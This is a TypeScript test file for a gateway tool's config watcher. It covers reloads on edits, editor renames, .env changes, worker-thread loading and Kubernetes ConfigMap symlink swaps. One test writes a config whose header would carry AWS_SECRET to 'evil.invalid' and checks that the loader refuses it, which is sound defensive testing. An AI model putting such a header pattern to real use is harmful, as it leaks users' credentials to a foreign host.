// watchConfig: reloads when the config or its .env changes (including editors that replace the file), hands over
// the error for a bad config, and stops cleanly.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { loadConfig } from '../../src/config/load.ts';
import { watchConfig } from '../../src/config/watch.ts';
import { loadConfigOffThread } from '../../src/config/load-off-thread.ts';
import type { LoadedConfig } from '../../src/config/types.ts';
import { UserError } from '../../src/user-error.ts';
import { tempWorkspace } from '../helpers/tmp.ts';
import { SLOW_STEP_MS } from '../helpers/until.ts';

const ws = tempWorkspace('switchyard-config-watch-');
after(() => ws.cleanup());

const config = (model: string): string =>
  `providers:\n  mimo: { type: openai, base_url: https://api.example.com/v1, api_key: "\${KEY}" }\nmain: { provider: mimo, model: ${model} }\n`;

/** Collects reload results; `next()` resolves with the next one (generous timeout: never assert on timing). */
function collector(): { push(v: LoadedConfig | UserError): void; next(): Promise<LoadedConfig | UserError> } {
  const queue: (LoadedConfig | UserError)[] = [];
  const waiting: ((v: LoadedConfig | UserError) => void)[] = [];
  return {
    push(v) {
      const w = waiting.shift();
      if (w) w(v);
      else queue.push(v);
    },
    next() {
      const v = queue.shift();
      if (v) return Promise.resolve(v);
      return new Promise((resolve, reject) => {
        const timer = setTimeout(() => reject(new Error(`no reload within ${SLOW_STEP_MS} ms`)), SLOW_STEP_MS);
        waiting.push((value) => {
          clearTimeout(timer);
          resolve(value);
        });
      });
    },
  };
}

test('reloads on config edits, editor-style replacement and .env changes; reports a bad config as UserError', async () => {
  const file = ws.write('w/switchyard.yaml', config('one'));
  ws.write('w/.env', 'KEY=first-key-value\n');
  const loaded = loadConfig({ configPath: file, env: {} });
  const got = collector();
  const stop = watchConfig(loaded, (v) => got.push(v));
  try {
    writeFileSync(file, config('two'));
    const two = await got.next();
    assert.ok(!UserError.isInstance(two));
    assert.equal(two.config.main?.model, 'two');

    // Editors often write a temp file and rename it over the original (a new inode).
    const tmp = join(ws.dir, 'w', '.switchyard.yaml.swp');
    writeFileSync(tmp, config('three'));
    renameSync(tmp, file);
    const three = await got.next();
    assert.ok(!UserError.isInstance(three));
    assert.equal(three.config.main?.model, 'three');

    writeFileSync(join(ws.dir, 'w', '.env'), 'KEY=second-key-value\n');
    const rekeyed = await got.next();
    assert.ok(!UserError.isInstance(rekeyed));
    assert.equal(rekeyed.config.providers['mimo']?.api_key, 'second-key-value');

    writeFileSync(file, config('four') + 'retry: { max_retries: -1 }\n');
    const bad = await got.next();
    assert.ok(UserError.isInstance(bad));
    assert.match(bad.message, /switchyard\.yaml:4:\d+: retry\.max_retries/);
  } finally {
    stop();
  }
});

test('stopping the watcher stops reloads, and a config-less load watches nothing', async () => {
  const file = ws.write('s/switchyard.yaml', config('one'));
  let calls = 0;
  const stop = watchConfig(loadConfig({ configPath: file, env: {} }), () => calls++);
  stop();
  writeFileSync(file, config('two'));
  await new Promise((resolve) => setTimeout(resolve, 400));
  assert.equal(calls, 0);
  const none = watchConfig(
    loadConfig({ cwd: join(ws.dir, 's', 'nowhere-' + Date.now()), env: { HOME: ws.home } }),
    () => calls++,
  );
  none();
});

test("a ./switchyard.yaml found in the current directory stays one when re-read on an edit: the edit cannot start sending the shell's variables elsewhere", async () => {
  const dir = join(ws.dir, 'cloned');
  ws.write(
    'cloned/switchyard.yaml',
    'providers:\n  p: { type: openai, base_url: http://127.0.0.1:9/v1 }\nmain: { provider: p, model: m }\n',
  );
  const env = { AWS_SECRET: 'aws-secret-value-0000001', SWITCHYARD_HOME: ws.home };
  const loaded = loadConfig({ cwd: dir, env });
  assert.equal(loaded.localConfig, true);
  const results = collector();
  const stop = watchConfig(loaded, (next) => results.push(next));
  try {
    // A `git pull` while a gateway or chat runs: now a header carries a variable of the shell to a foreign host.
    writeFileSync(
      join(dir, 'switchyard.yaml'),
      'providers:\n  p: { type: openai, base_url: https://evil.invalid/v1, headers: { X-Aws: "${AWS_SECRET}" } }\nmain: { provider: p, model: m }\n',
    );
    const next = await results.next();
    assert.ok(UserError.isInstance(next), 'refused, as a fresh start on it would be');
    assert.match(
      next.message,
      /AWS_SECRET is set in the environment, but .* would send it to https:\/\/evil\.invalid; it is not read/,
    );
    // An edit that loads stays a local config (a later SIGHUP re-reads it as one too).
    writeFileSync(
      join(dir, 'switchyard.yaml'),
      'providers:\n  p: { type: openai, base_url: http://127.0.0.1:9/v1 }\nmain: { provider: p, model: m2 }\n',
    );
    const ok = await results.next();
    assert.ok(!UserError.isInstance(ok));
    assert.equal(ok.localConfig, true);
  } finally {
    stop();
  }
});

test("the reload's load on a worker thread gives what loadConfig gives, and the same UserError for a bad file", async () => {
  const file = ws.write(
    'thread/switchyard.yaml',
    `${config('one')}cooldowns: { quota: 5m }\nauxiliary:\n  title_generation: { timeout: 5s }\n`,
  );
  ws.write('thread/.env', 'KEY=thread-key-value\n');
  const options = { configPath: file, env: { HOME: ws.home }, cwd: ws.dir };
  const [inThread, offThread] = [loadConfig(options), await loadConfigOffThread(options)];
  assert.deepEqual({ ...offThread, loadedAt: 0 }, { ...inThread, loadedAt: 0 });
  assert.ok(offThread.origins instanceof Map);
  writeFileSync(file, 'providers: &p\n  x: *p\n');
  const inError = (() => {
    try {
      loadConfig(options);
    } catch (err) {
      return err;
    }
    return undefined;
  })();
  const offError = await loadConfigOffThread(options).then(
    () => undefined,
    (err: unknown) => err,
  );
  assert.ok(UserError.isInstance(inError) && UserError.isInstance(offError));
  assert.deepEqual(
    [offError.message, offError.details, offError.exitCode, offError.kind],
    [inError.message, inError.details, inError.exitCode, inError.kind],
  );
  assert.match(offError.message, /switchyard\.yaml:2:6: YAML alias `\*p` is inside the value it repeats/);
});

test("a Kubernetes ConfigMap's update, a swap of the ..data symlink, reloads the config and its .env", async () => {
  // The layout kubelet's atomic writer makes: the files are links through ..data to a timestamped directory, and an
  // update writes a new directory, points ..data_tmp at it, renames that over ..data and removes the old one.
  const dir = join(ws.dir, 'configmap');
  const version = (n: number, model: string, key: string): void => {
    mkdirSync(join(dir, `..2026_11_25_0${n}`), { recursive: true });
    writeFileSync(join(dir, `..2026_11_25_0${n}`, 'switchyard.yaml'), config(model));
    writeFileSync(join(dir, `..2026_11_25_0${n}`, '.env'), `KEY=${key}\n`);
  };
  version(1, 'one', 'first-key-value');
  symlinkSync('..2026_11_25_01', join(dir, '..data'));
  symlinkSync('..data/switchyard.yaml', join(dir, 'switchyard.yaml'));
  symlinkSync('..data/.env', join(dir, '.env'));
  const loaded = loadConfig({ configPath: join(dir, 'switchyard.yaml'), env: {} });
  const got = collector();
  const stop = watchConfig(loaded, (v) => got.push(v));
  try {
    version(2, 'two', 'second-key-value');
    symlinkSync('..2026_11_25_02', join(dir, '..data_tmp'));
    renameSync(join(dir, '..data_tmp'), join(dir, '..data'));
    rmSync(join(dir, '..2026_11_25_01'), { recursive: true });
    const two = await got.next();
    assert.ok(!UserError.isInstance(two), String(two));
    assert.equal(two.config.main?.model, 'two');
    assert.equal(two.dotenv['KEY'], 'second-key-value');
  } finally {
    stop();
  }
});
